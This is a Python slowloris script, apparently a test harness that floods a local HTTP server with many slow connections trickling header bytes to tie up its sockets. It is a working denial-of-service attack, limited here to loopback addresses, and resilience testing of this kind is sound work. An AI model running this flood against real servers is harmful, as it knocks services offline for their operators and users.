#!/usr/bin/python3
"""Many clients that open connections, send their headers byte by byte, and come back when they are thrown out:

    slowloris.py ADDRESS PORT CLIENTS one|many

`one`: all come from one address; `many`: each from its own of 127.0.0.0/8. It says "all there" when each of them
has been connected once, and ends when its standard input does. Also for tests:

    with Slowloris(address, port, clients=1500, many=True): …
"""
import asyncio
import contextlib
import pathlib
import random
import resource
import subprocess
import sys


class Slowloris:
    def __init__(self, address: str, port: int, clients: int, many: bool):
        self.command = [sys.executable, str(pathlib.Path(__file__).resolve()), address, str(port), str(clients),
                        "many" if many else "one"]

    def __enter__(self):
        self.process = subprocess.Popen(self.command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        return self

    def wait_all_there(self):
        assert self.process.stdout.readline() == "all there\n"

    def __exit__(self, *_):
        self.process.stdin.close()
        self.process.wait()
        self.process.stdout.close()


async def attack(address: str, port: int, source: str, there: asyncio.Semaphore):
    first = True
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(address, port, local_addr=(source, 0))
            if first:
                there.release()
                first = False
            writer.write(b"GET /api/v1/status HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            gone = asyncio.ensure_future(reader.read())
            while not (await asyncio.wait({gone}, timeout=random.uniform(0.5, 1)))[0]:
                writer.write(b"y")
            with contextlib.suppress(Exception):
                gone.result()
            writer.close()
        await asyncio.sleep(random.uniform(0.1, 0.5))


async def main(address: str, port: int, clients: int, many: bool):
    there = asyncio.Semaphore(0)
    tasks = [asyncio.ensure_future(attack(address, port, f"127.{60 + i // 250}.7.{i % 250 + 1}" if many else "127.60.7.1", there))
             for i in range(clients)]
    for _ in range(clients):
        await there.acquire()
    print("all there", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4] == "many"))
